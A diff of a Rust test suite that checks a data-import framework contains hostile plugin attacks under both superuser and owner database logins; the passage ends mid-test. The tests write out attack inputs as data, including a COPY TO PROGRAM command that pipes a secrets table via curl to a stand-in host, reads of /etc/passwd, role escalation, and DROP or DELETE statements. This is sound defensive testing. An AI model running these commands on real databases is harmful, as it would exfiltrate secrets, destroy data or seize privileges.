@@ -1,7 +1,13 @@
 //! The hostile-processor suite: each test is one attack by an untrusted processor. Every test
 //! asserts containment: the attacking item fails with a clear reason, the host keeps going (the
-//! next item succeeds), and the framework tables (other batches' rows) and every table the
-//! processor was not granted are unchanged.
+//! next item succeeds, on a session exactly as clean as before: same login, same settings, nothing
+//! left behind), and the framework tables (other batches' rows) and every table the processor was
+//! not granted are unchanged.
+//!
+//! Every test runs twice: with the host logged in as a superuser, and as a login that owns the
+//! database but is no superuser. Attacks on the database wall itself also run with the SQL gate
+//! switched off (`attack_wall`), so that PostgreSQL's own authentication is shown to contain them
+//! alone; with the gate on they are refused before they reach the server.
 //!
 //! The processor here may select, insert and update `probe_rows` — nothing else: not delete, not
 //! `secrets`, not `customers`, not Ingot's own tables.
@@ -31,9 +37,61 @@ const MANIFEST: &str = "
     memory_mb = 32
     statement_timeout_ms = 300";
 
+/// Who the host logs in as.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Host {
+    /// The default setup: the host is the superuser `postgres`.
+    Superuser,
+    /// Least privilege: the host owns the database and may create roles, nothing more.
+    Owner,
+}
+
+/// Every attack is tried against both.
+const HOSTS: [Host; 2] = [Host::Superuser, Host::Owner];
+
+/// What the processor's session looks like from inside: who it is, the settings the host relies
+/// on, and everything a processor could leave behind. An item runs this after each attack; it must
+/// see exactly what it saw before any attack.
+const SESSION: &str = "SELECT current_user::text AS current_user, session_user::text AS session_user,
+       current_setting('search_path') AS search_path,
+       current_setting('standard_conforming_strings') AS standard_conforming_strings,
+       current_setting('client_encoding') AS client_encoding,
+       current_setting('default_transaction_read_only') AS default_transaction_read_only,
+       current_setting('transaction_read_only') AS transaction_read_only,
+       current_setting('default_transaction_isolation') AS default_transaction_isolation,
+       current_setting('statement_timeout') AS statement_timeout,
+       current_setting('lock_timeout') AS lock_timeout,
+       current_setting('idle_in_transaction_session_timeout') AS idle_in_transaction_session_timeout,
+       current_setting('exit_on_error') AS exit_on_error,
+       current_setting('enable_indexscan') AS enable_indexscan,
+       current_setting('work_mem') AS work_mem,
+       (SELECT count(*) FROM pg_locks WHERE pid = pg_backend_pid() AND locktype = 'advisory') AS advisory_locks,
+       (SELECT count(*) FROM pg_prepared_statements WHERE from_sql) AS prepared_statements,
+       (SELECT count(*) FROM pg_cursors WHERE is_holdable) AS held_cursors,
+       (SELECT count(*) FROM pg_listening_channels()) AS listening,
+       (SELECT count(*) FROM pg_class WHERE relpersistence = 't') AS temporary_tables,
+       (SELECT count(*) FROM pg_largeobject_metadata) AS large_objects,
+       (SELECT count(*) FROM pg_prepared_statements
+        WHERE statement LIKE '%ingot\\_%' AND statement NOT LIKE '%pg_prepared_statements%') AS host_statements";
+
+fn session() -> Value {
+    query(SESSION)
+}
+
 struct Arena {
     db: TestDb,
+    /// The host as it runs: every processor statement goes through the SQL gate.
     manager: BatchManager,
+    /// The same host with the gate switched off: only the login role stands in the way.
+    wall: BatchManager,
+    /// The host's own login.
+    host_login: String,
+    /// The processor's role.
+    role: String,
+    /// An earlier, innocent batch whose rows the attacks must not touch.
+    innocent: Uuid,
+    /// What the processor's session looked like before any attack.
+    clean_session: Value,
     _processors: Processors,
     files: tempfile::TempDir,
 }
@@ -48,12 +106,13 @@ async fn fingerprint(db: &TestDb, except: Option<Uuid>) -> Vec<Option<String>> {
         "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM import_batch_items t WHERE batch_id <> $1",
         "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM import_logs t WHERE batch_id <> $1",
         "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM import_batch_counters t WHERE batch_id <> $1",
+        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM ingot_processor_roles t WHERE $1 IS NOT NULL",
         "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM secrets t WHERE $1 IS NOT NULL",
         "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM customers t WHERE $1 IS NOT NULL",
     ] {
         out.push(sqlx::query_scalar(sql).bind(except).fetch_one(&db.pool).await.unwrap());
     }
-    // Superusers, and this test's own processor roles with their attributes and memberships.
+    // Superusers, and this test's own roles with their attributes and memberships.
     let roles = "SELECT md5(string_agg(r.rolname::text || r.rolsuper || r.rolcreaterole || r.rolcanlogin || r.rolbypassrls
                         || coalesce((SELECT string_agg(m.roleid::regrole::text, ',' ORDER BY 1) FROM pg_auth_members m
                                      WHERE m.member = r.oid), ''), '|' ORDER BY r.rolname))
@@ -63,64 +122,126 @@ async fn fingerprint(db: &TestDb, except: Option<Uuid>) -> Vec<Option<String>> {
 }
 
 impl Arena {
-    async fn new() -> Arena {
-        let db = TestDb::new().await;
+    async fn new(host: Host) -> Arena {
+        println!("the host logs in as: {host:?}");
+        let db = match host {
+            Host::Superuser => TestDb::new().await,
+            Host::Owner => TestDb::with_owner().await,
+        };
         db.apply(SCHEMA).await;
         let processors = Processors::new(&[("probe", &guest("probe"), Some(MANIFEST))]);
         let manager = support::manager(&db, &processors, support::runtime());
-        let arena = Arena { db, manager, _processors: processors, files: tempfile::tempdir().unwrap() };
-        // An earlier, innocent batch whose rows the attacks must not touch.
-        arena
+        let wall = manager.clone().without_sql_gate();
+        let host_login = db.login().await;
+        let role = ingot::context::grants::role_name(&db.role_prefix(), "probe");
+        let mut arena = Arena {
+            db,
+            manager,
+            wall,
+            host_login,
+            role,
+            innocent: Uuid::nil(),
+            clean_session: Value::Null,
+            _processors: processors,
+            files: tempfile::tempdir().unwrap(),
+        };
+        arena.innocent = arena
             .run(&[
                 json!({"mode": "log", "message": "innocent"}),
                 json!({"mode": "invalid", "message": "old"}),
+                session(),
             ])
             .await;
+        arena.clean_session = arena.item(arena.innocent, 2).await.1.unwrap();
+        assert_eq!(arena.clean_session[0]["session_user"], json!(arena.role), "the processor's own login");
+        assert_eq!(arena.clean_session[0]["current_user"], json!(arena.role));
+        assert_eq!(arena.clean_session[0]["host_statements"], 0, "the host keeps no statement prepared here");
         arena
     }
 
     async fn run(&self, items: &[Value]) -> Uuid {
+        self.run_with(&self.manager, items).await
+    }
+
+    async fn run_with(&self, manager: &BatchManager, items: &[Value]) -> Uuid {
         let path = self.files.path().join(format!("{}.ndjson", Uuid::new_v4().simple()));
         std::fs::write(&path, items.iter().map(|i| format!("{i}\n")).collect::<String>()).unwrap();
         let source = InputSource::from_arg(path.to_str().unwrap(), None).unwrap();
-        let summary = self
-            .manager
+        let summary = manager
             .run("probe", source, &CreateOptions::default(), &ProcessOptions::workers(1), None)
             .await
             .expect("the host survives the attack");
         summary.batch_id
     }
 
-    /// Runs the attack then an innocent item; returns the attack's recorded error message after
-    /// checking containment.
+    /// An item's status, processed data and error message.
+    async fn item(&self, batch: Uuid, index: i64) -> (String, Option<Value>, Option<String>) {
+        let row = sqlx::query(
+            "SELECT status, processed_data, error_message FROM import_batch_items WHERE batch_id = $1 AND item_index = $2",
+        )
+        .bind(batch)
+        .bind(index)
+        .fetch_one(&self.db.pool)
+        .await
+        .unwrap();
+        (row.get("status"), row.get("processed_data"), row.get("error_message"))
+    }
+
+    /// Runs the attack (through the gate) then innocent items; returns the attack's recorded
+    /// error message after checking containment.
     async fn attack(&self, attack: Value) -> String {
+        self.attack_with(&self.manager, attack).await
+    }
+
+    /// Runs the attack with the SQL gate off: PostgreSQL's own wall must contain it alone.
+    async fn attack_wall(&self, attack: Value) -> String {
+        self.attack_with(&self.wall, attack).await
+    }
+
+    async fn attack_with(&self, manager: &BatchManager, attack: Value) -> String {
+        let (status, reason) = self.contain(manager, attack).await;
+        assert_eq!(status, "failed", "the attack must fail its item");
+        reason.expect("a reason")
+    }
+
+    /// Runs the attack then innocent items, and checks containment whatever the attack's own
+    /// item came to: the next items succeed on a session as clean as before, and nothing outside
+    /// the batch changed. Returns the attack item's status and error.
+    async fn contain(&self, manager: &BatchManager, attack: Value) -> (String, Option<String>) {
         let before = fingerprint(&self.db, None).await;
         let label = format!("after-{}", Uuid::new_v4().simple());
-        let batch =
-            self.run(&[attack, sql(&format!("INSERT INTO probe_rows (label) VALUES ('{label}')"))]).await;
-        let items = sqlx::query("SELECT item_index, status, error_message FROM import_batch_items WHERE batch_id = $1 ORDER BY item_index")
-            .bind(batch)
-            .fetch_all(&self.db.pool)
-            .await
-            .unwrap();
-        assert_eq!(items[1].get::<String, _>("status"), "completed", "the next item must succeed");
+        let batch = self
+            .run_with(
+                manager,
+                &[attack, sql(&format!("INSERT INTO probe_rows (label) VALUES ('{label}')")), session()],
+            )
+            .await;
+        let (next, _, error) = self.item(batch, 1).await;
+        assert_eq!(next, "completed", "the next item must succeed: {error:?}");
         assert_eq!(
             self.db.scalar_i64(&format!("SELECT count(*) FROM probe_rows WHERE label = '{label}'")).await,
             1
+        );
+        let (status, after, error) = self.item(batch, 2).await;
+        assert_eq!(status, "completed", "{error:?}");
+        assert_eq!(
+            after,
+            Some(self.clean_session.clone()),
+            "the processor's session must be as clean as before"
         );
         assert_eq!(
             fingerprint(&self.db, Some(batch)).await,
             before,
             "framework tables or ungranted tables changed"
         );
-        let status: String = sqlx::query_scalar("SELECT status FROM import_batches WHERE id = $1")
+        let batch_status: String = sqlx::query_scalar("SELECT status FROM import_batches WHERE id = $1")
             .bind(batch)
             .fetch_one(&self.db.pool)
             .await
             .unwrap();
-        assert_eq!(status, "completed", "the batch carries on");
-        assert_eq!(items[0].get::<String, _>("status"), "failed", "the attack must fail its item");
-        items[0].get::<Option<String>, _>("error_message").expect("a reason")
+        assert_eq!(batch_status, "completed", "the batch carries on");
+        let (status, _, error) = self.item(batch, 0).await;
+        (status, error)
     }
 }
 
@@ -142,449 +263,930 @@ fn assert_reason(reason: &str, expected: &[&str]) {
 
 #[tokio::test]
 async fn hostile_infinite_loop_is_stopped_by_the_time_limit() {
-    let reason = Arena::new().await.attack(json!({"mode": "loop"})).await;
-    assert_reason(&reason, &["500 ms time limit"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(json!({"mode": "loop"})).await;
+        assert_reason(&reason, &["500 ms time limit"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_deep_recursion_traps_and_is_contained() {
-    let reason = Arena::new().await.attack(json!({"mode": "recurse"})).await;
-    assert_reason(&reason, &["trapped", "stack"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(json!({"mode": "recurse"})).await;
+        assert_reason(&reason, &["trapped", "stack"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_memory_bomb_is_stopped_at_the_memory_cap() {
-    let reason = Arena::new().await.attack(json!({"mode": "alloc"})).await;
-    assert_reason(&reason, &["32 MiB memory limit"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(json!({"mode": "alloc"})).await;
+        assert_reason(&reason, &["32 MiB memory limit"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_panic_is_contained() {
-    let reason = Arena::new().await.attack(json!({"mode": "panic", "message": "gotcha"})).await;
-    assert_reason(&reason, &["trapped", "probe panic: gotcha"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(json!({"mode": "panic", "message": "gotcha"})).await;
+        assert_reason(&reason, &["trapped", "probe panic: gotcha"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_log_flood_is_stopped_at_the_log_cap() {
-    let reason = Arena::new().await.attack(json!({"mode": "log", "lines": 100_000, "message": "spam"})).await;
-    assert_reason(&reason, &["log lines per item"]);
+    for host in HOSTS {
+        let reason =
+            Arena::new(host).await.attack(json!({"mode": "log", "lines": 100_000, "message": "spam"})).await;
+        assert_reason(&reason, &["log lines per item"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_oversized_log_line_is_stopped_at_the_message_cap() {
-    let reason = Arena::new().await.attack(json!({"mode": "big_log", "bytes": 1_000_000})).await;
-    assert_reason(&reason, &["log message size"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(json!({"mode": "big_log", "bytes": 1_000_000})).await;
+        assert_reason(&reason, &["log message size"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_huge_outcome_is_refused_at_the_outcome_cap() {
-    let reason = Arena::new().await.attack(json!({"mode": "huge_outcome", "bytes": 4_000_000})).await;
-    assert_reason(&reason, &["outcome size"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(json!({"mode": "huge_outcome", "bytes": 4_000_000})).await;
+        assert_reason(&reason, &["outcome size"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_stdout_flood_is_truncated_and_the_host_carries_on() {
-    let arena = Arena::new().await;
-    let before = fingerprint(&arena.db, None).await;
-    let batch = arena.run(&[json!({"mode": "print", "bytes": 5_000_000}), json!({"mode": "ok"})]).await;
-    let kept = arena.db.scalar_i64(&format!("SELECT coalesce(sum(length(message)), 0) FROM import_logs WHERE batch_id = '{batch}' AND source = 'stdout'")).await;
-    assert!(kept <= 64 << 10, "kept {kept} bytes of stdout");
-    assert_eq!(
-        arena
-            .db
-            .scalar_i64(&format!(
-                "SELECT count(*) FROM import_batch_items WHERE batch_id = '{batch}' AND status = 'completed'"
-            ))
-            .await,
-        2
-    );
-    assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let before = fingerprint(&arena.db, None).await;
+        let batch = arena.run(&[json!({"mode": "print", "bytes": 5_000_000}), json!({"mode": "ok"})]).await;
+        let kept = arena.db.scalar_i64(&format!("SELECT coalesce(sum(length(message)), 0) FROM import_logs WHERE batch_id = '{batch}' AND source = 'stdout'")).await;
+        assert!(kept <= 64 << 10, "kept {kept} bytes of stdout");
+        assert_eq!(
+            arena
+                .db
+                .scalar_i64(&format!(
+                    "SELECT count(*) FROM import_batch_items WHERE batch_id = '{batch}' AND status = 'completed'"
+                ))
+                .await,
+            2
+        );
+        assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
+    }
 }
 
 #[tokio::test]
 async fn hostile_file_read_is_denied() {
-    let reason =
-        Arena::new().await.attack(json!({"mode": "file", "path": "/etc/passwd", "must": true})).await;
-    assert_reason(&reason, &["file was refused", "Err("]);
+    for host in HOSTS {
+        let reason =
+            Arena::new(host).await.attack(json!({"mode": "file", "path": "/etc/passwd", "must": true})).await;
+        assert_reason(&reason, &["file was refused", "Err("]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_file_write_is_denied() {
-    let reason = Arena::new()
-        .await
-        .attack(json!({"mode": "write_file", "path": "/tmp/ingot-hostile", "must": true}))
-        .await;
-    assert_reason(&reason, &["write_file was refused"]);
-    assert!(!std::path::Path::new("/tmp/ingot-hostile").exists());
+    for host in HOSTS {
+        let reason = Arena::new(host)
+            .await
+            .attack(json!({"mode": "write_file", "path": "/tmp/ingot-hostile", "must": true}))
+            .await;
+        assert_reason(&reason, &["write_file was refused"]);
+        assert!(!std::path::Path::new("/tmp/ingot-hostile").exists());
+    }
 }
 
 #[tokio::test]
 async fn hostile_environment_read_finds_nothing() {
-    let reason = Arena::new().await.attack(json!({"mode": "env", "must": true})).await;
-    assert_reason(&reason, &["the environment is empty"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(json!({"mode": "env", "must": true})).await;
+        assert_reason(&reason, &["the environment is empty"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_socket_connect_is_denied() {
-    let reason =
-        Arena::new().await.attack(json!({"mode": "socket", "addr": "127.0.0.1:5432", "must": true})).await;
-    assert_reason(&reason, &["socket was refused", "PermissionDenied"]);
+    for host in HOSTS {
+        let reason = Arena::new(host)
+            .await
+            .attack(json!({"mode": "socket", "addr": "127.0.0.1:5432", "must": true}))
+            .await;
+        assert_reason(&reason, &["socket was refused", "PermissionDenied"]);
+    }
 }
 
 // The database session: role, transaction and settings cannot be changed.
 
 #[tokio::test]
 async fn hostile_reset_role_is_refused() {
-    let reason = Arena::new().await.attack(sql("RESET ROLE")).await;
-    assert_reason(&reason, &["refused by the SQL gate", "SET, RESET"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("RESET ROLE")).await;
+        assert_reason(&reason, &["refused by the SQL gate", "SET, RESET"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_set_role_is_refused() {
-    let reason = Arena::new().await.attack(sql("SET ROLE postgres")).await;
-    assert_reason(&reason, &["refused by the SQL gate", "SET, RESET"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("SET ROLE postgres")).await;
+        assert_reason(&reason, &["refused by the SQL gate", "SET, RESET"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_set_session_authorization_is_refused() {
-    let reason = Arena::new().await.attack(sql("SET SESSION AUTHORIZATION postgres")).await;
-    assert_reason(&reason, &["refused by the SQL gate"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("SET SESSION AUTHORIZATION postgres")).await;
+        assert_reason(&reason, &["refused by the SQL gate"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_set_config_role_is_refused() {
-    let reason = Arena::new().await.attack(query("SELECT set_config('role', 'postgres', true)")).await;
-    assert_reason(&reason, &["refused by the SQL gate", "set_config()"]);
+    for host in HOSTS {
+        let reason =
+            Arena::new(host).await.attack(query("SELECT set_config('role', 'postgres', true)")).await;
+        assert_reason(&reason, &["refused by the SQL gate", "set_config()"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_set_statement_timeout_is_refused() {
-    let reason = Arena::new().await.attack(sql("SET statement_timeout = 0")).await;
-    assert_reason(&reason, &["refused by the SQL gate"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("SET statement_timeout = 0")).await;
+        assert_reason(&reason, &["refused by the SQL gate"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_commit_then_write_is_refused() {
-    let arena = Arena::new().await;
-    let reason = arena.attack(sql("COMMIT")).await;
-    assert_reason(&reason, &["refused by the SQL gate", "transaction control"]);
-    let reason = arena.attack(sql("COMMIT; INSERT INTO secrets VALUES (2, 'planted')")).await;
-    assert_reason(&reason, &["refused by the SQL gate", "2 statements"]);
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let reason = arena.attack(sql("COMMIT")).await;
+        assert_reason(&reason, &["refused by the SQL gate", "transaction control"]);
+        let reason = arena.attack(sql("COMMIT; INSERT INTO secrets VALUES (2, 'planted')")).await;
+        assert_reason(&reason, &["refused by the SQL gate", "2 statements"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_rollback_is_refused() {
-    let reason = Arena::new().await.attack(sql("ROLLBACK")).await;
-    assert_reason(&reason, &["transaction control"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("ROLLBACK")).await;
+        assert_reason(&reason, &["transaction control"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_savepoint_and_release_are_refused() {
-    let arena = Arena::new().await;
-    assert_reason(&arena.attack(sql("SAVEPOINT escape")).await, &["transaction control"]);
-    assert_reason(&arena.attack(sql("RELEASE SAVEPOINT ingot_processor")).await, &["transaction control"]);
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        assert_reason(&arena.attack(sql("SAVEPOINT escape")).await, &["transaction control"]);
+        assert_reason(
+            &arena.attack(sql("RELEASE SAVEPOINT ingot_processor")).await,
+            &["transaction control"],
+        );
+    }
 }
 
 #[tokio::test]
 async fn hostile_multi_statement_string_is_refused() {
-    let reason = Arena::new().await.attack(sql("SELECT 1; DELETE FROM secrets")).await;
-    assert_reason(&reason, &["2 statements"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("SELECT 1; DELETE FROM secrets")).await;
+        assert_reason(&reason, &["2 statements"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_do_block_is_refused() {
-    let reason = Arena::new().await.attack(sql("DO $$ BEGIN EXECUTE 'DELETE FROM secrets'; END $$")).await;
-    assert_reason(&reason, &["DO blocks"]);
+    for host in HOSTS {
+        let reason =
+            Arena::new(host).await.attack(sql("DO $$ BEGIN EXECUTE 'DELETE FROM secrets'; END $$")).await;
+        assert_reason(&reason, &["DO blocks"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_call_is_refused() {
-    let reason = Arena::new().await.attack(sql("CALL do_anything()")).await;
-    assert_reason(&reason, &["CALL"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("CALL do_anything()")).await;
+        assert_reason(&reason, &["CALL"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_copy_to_program_is_refused() {
-    let reason =
-        Arena::new().await.attack(sql("COPY secrets TO PROGRAM 'curl -d @- http://evil.example'")).await;
-    assert_reason(&reason, &["COPY"]);
+    for host in HOSTS {
+        let reason = Arena::new(host)
+            .await
+            .attack(sql("COPY secrets TO PROGRAM 'curl -d @- http://evil.example'"))
+            .await;
+        assert_reason(&reason, &["COPY"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_copy_from_a_file_is_refused() {
-    let reason = Arena::new().await.attack(sql("COPY probe_rows (label) FROM '/etc/passwd'")).await;
-    assert_reason(&reason, &["COPY"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("COPY probe_rows (label) FROM '/etc/passwd'")).await;
+        assert_reason(&reason, &["COPY"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_listen_is_refused() {
-    let reason = Arena::new().await.attack(sql("LISTEN ingot_batches")).await;
-    assert_reason(&reason, &["LISTEN"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("LISTEN ingot_batches")).await;
+        assert_reason(&reason, &["LISTEN"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_notify_is_refused() {
-    let reason = Arena::new().await.attack(sql("NOTIFY ingot_batches, 'fake'")).await;
-    assert_reason(&reason, &["NOTIFY"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("NOTIFY ingot_batches, 'fake'")).await;
+        assert_reason(&reason, &["NOTIFY"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_prepare_and_execute_are_refused() {
-    let arena = Arena::new().await;
-    assert_reason(&arena.attack(sql("PREPARE p AS DELETE FROM secrets")).await, &["PREPARE"]);
-    assert_reason(&arena.attack(sql("EXECUTE p")).await, &["PREPARE"]);
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        assert_reason(&arena.attack(sql("PREPARE p AS DELETE FROM secrets")).await, &["PREPARE"]);
+        assert_reason(&arena.attack(sql("EXECUTE p")).await, &["PREPARE"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_lock_table_is_refused() {
-    let reason = Arena::new().await.attack(sql("LOCK TABLE import_batches IN ACCESS EXCLUSIVE MODE")).await;
-    assert_reason(&reason, &["LOCK TABLE"]);
+    for host in HOSTS {
+        let reason =
+            Arena::new(host).await.attack(sql("LOCK TABLE import_batches IN ACCESS EXCLUSIVE MODE")).await;
+        assert_reason(&reason, &["LOCK TABLE"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_advisory_lock_is_refused() {
-    let reason = Arena::new().await.attack(query("SELECT pg_advisory_lock(42)")).await;
-    assert_reason(&reason, &["pg_advisory_lock()"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(query("SELECT pg_advisory_lock(42)")).await;
+        assert_reason(&reason, &["pg_advisory_lock()"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_vacuum_is_refused() {
-    let reason = Arena::new().await.attack(sql("VACUUM FULL import_batch_items")).await;
-    assert_reason(&reason, &["VACUUM"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("VACUUM FULL import_batch_items")).await;
+        assert_reason(&reason, &["VACUUM"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_explain_analyze_is_refused() {
-    let reason = Arena::new().await.attack(sql("EXPLAIN ANALYZE DELETE FROM secrets")).await;
-    assert_reason(&reason, &["EXPLAIN"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("EXPLAIN ANALYZE DELETE FROM secrets")).await;
+        assert_reason(&reason, &["EXPLAIN"]);
+    }
 }
 
 // DDL.
 
 #[tokio::test]
 async fn hostile_create_table_is_refused() {
-    let reason = Arena::new().await.attack(sql("CREATE TABLE loot AS SELECT * FROM secrets")).await;
-    assert_reason(&reason, &["DDL"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("CREATE TABLE loot AS SELECT * FROM secrets")).await;
+        assert_reason(&reason, &["DDL"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_drop_table_is_refused() {
-    let reason = Arena::new().await.attack(sql("DROP TABLE customers")).await;
-    assert_reason(&reason, &["DDL"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("DROP TABLE customers")).await;
+        assert_reason(&reason, &["DDL"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_truncate_is_refused() {
-    let reason = Arena::new().await.attack(sql("TRUNCATE secrets")).await;
-    assert_reason(&reason, &["TRUNCATE"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("TRUNCATE secrets")).await;
+        assert_reason(&reason, &["TRUNCATE"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_select_into_is_refused() {
-    let reason = Arena::new().await.attack(sql("SELECT * INTO loot FROM probe_rows")).await;
-    assert_reason(&reason, &["SELECT … INTO"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("SELECT * INTO loot FROM probe_rows")).await;
+        assert_reason(&reason, &["SELECT … INTO"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_grant_is_refused() {
-    let reason = Arena::new().await.attack(sql("GRANT ALL ON secrets TO PUBLIC")).await;
-    assert_reason(&reason, &["GRANT"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("GRANT ALL ON secrets TO PUBLIC")).await;
+        assert_reason(&reason, &["GRANT"]);
+    }
 }
 
 // Tables: only what the manifest grants.
 
 #[tokio::test]
 async fn hostile_reading_import_batch_items_is_denied() {
-    let reason = Arena::new().await.attack(query("SELECT source_data FROM import_batch_items")).await;
-    assert_reason(&reason, &["permission denied for table import_batch_items", "may use only what"]);
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let attack = query("SELECT source_data FROM import_batch_items");
+        assert_reason(
+            &arena.attack(attack.clone()).await,
+            &["refused by the SQL gate", "Ingot's own tables"],
+        );
+        assert_reason(
+            &arena.attack_wall(attack).await,
+            &["permission denied for table import_batch_items", "may use only what"],
+        );
+    }
 }
 
 #[tokio::test]
 async fn hostile_updating_import_batches_is_denied() {
-    let reason = Arena::new().await.attack(sql("UPDATE import_batches SET status = 'completed'")).await;
-    assert_reason(&reason, &["permission denied for table import_batches"]);
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let attack = sql("UPDATE import_batches SET status = 'completed'");
+        assert_reason(
+            &arena.attack(attack.clone()).await,
+            &["refused by the SQL gate", "Ingot's own tables"],
+        );
+        assert_reason(&arena.attack_wall(attack).await, &["permission denied for table import_batches"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_inserting_into_import_logs_is_denied() {
-    let reason = Arena::new()
-        .await
-        .attack(sql("INSERT INTO import_logs (batch_id, log_level, message) VALUES (gen_random_uuid(), 'error', 'forged')"))
-        .await;
-    assert_reason(&reason, &["permission denied for table import_logs"]);
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let attack = sql(
+            "INSERT INTO import_logs (batch_id, log_level, message) VALUES (gen_random_uuid(), 'error', 'forged')",
+        );
+        assert_reason(
+            &arena.attack(attack.clone()).await,
+            &["refused by the SQL gate", "Ingot's own tables"],
+        );
+        assert_reason(&arena.attack_wall(attack).await, &["permission denied for table import_logs"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_forging_counters_is_denied() {
-    let reason =
-        Arena::new().await.attack(sql("UPDATE import_batch_counters SET completed = completed + 1000")).await;
-    assert_reason(&reason, &["permission denied for table import_batch_counters"]);
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let attack = sql("UPDATE import_batch_counters SET completed = completed + 1000");
+        assert_reason(
+            &arena.attack(attack.clone()).await,
+            &["refused by the SQL gate", "Ingot's own tables"],
+        );
+        assert_reason(
+            &arena.attack_wall(attack).await,
+            &["permission denied for table import_batch_counters"],
+        );
+    }
 }
 
 #[tokio::test]
 async fn hostile_writing_a_table_not_granted_is_denied() {
-    let reason = Arena::new().await.attack(sql("INSERT INTO secrets VALUES (2, 'planted')")).await;
-    assert_reason(&reason, &["permission denied for table secrets"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(sql("INSERT INTO secrets VALUES (2, 'planted')")).await;
+        assert_reason(&reason, &["permission denied for table secrets"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_reading_another_processors_table_is_denied() {
-    let reason = Arena::new().await.attack(query("SELECT email FROM customers")).await;
-    assert_reason(&reason, &["permission denied for table customers"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(query("SELECT email FROM customers")).await;
+        assert_reason(&reason, &["permission denied for table customers"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_delete_not_granted_is_denied() {
-    let arena = Arena::new().await;
-    arena.run(&[sql("INSERT INTO probe_rows (label) VALUES ('keep me')")]).await;
-    let reason = arena.attack(sql("DELETE FROM probe_rows")).await;
-    assert_reason(&reason, &["permission denied for table probe_rows"]);
-    assert_eq!(arena.db.scalar_i64("SELECT count(*) FROM probe_rows WHERE label = 'keep me'").await, 1);
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        arena.run(&[sql("INSERT INTO probe_rows (label) VALUES ('keep me')")]).await;
+        let reason = arena.attack(sql("DELETE FROM probe_rows")).await;
+        assert_reason(&reason, &["permission denied for table probe_rows"]);
